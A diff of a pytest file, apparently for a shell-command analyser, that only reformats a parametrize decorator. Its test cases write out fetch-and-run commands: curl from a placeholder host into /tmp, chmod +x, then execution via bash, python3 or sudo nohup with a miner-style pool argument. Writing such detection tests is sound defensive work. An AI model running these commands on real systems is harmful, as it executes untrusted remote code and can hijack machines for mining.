@@ -27,7 +27,9 @@ URL = "https://dl.example/p/x"
         (f"curl -s {URL} | dd of=/tmp/x", "/tmp/x"),
     ],
 )
-@pytest.mark.parametrize(("run", "interpreter"), [("{}", "exec"), ("bash {}", "bash"), ("sudo nohup {}", "exec"), ("python3 {}", "python")])
+@pytest.mark.parametrize(
+    ("run", "interpreter"), [("{}", "exec"), ("bash {}", "bash"), ("sudo nohup {}", "exec"), ("python3 {}", "python")]
+)
 def test_a_fetched_file_that_is_run(play: Play, fetch: str, path: str, run: str, interpreter: str) -> None:
     """Fetched, made executable, run: one effect with the address, and the command with its arguments."""
     told = play(f"{fetch}\nchmod +x {path}\n{run.format(path)} -o pool.example:3333")
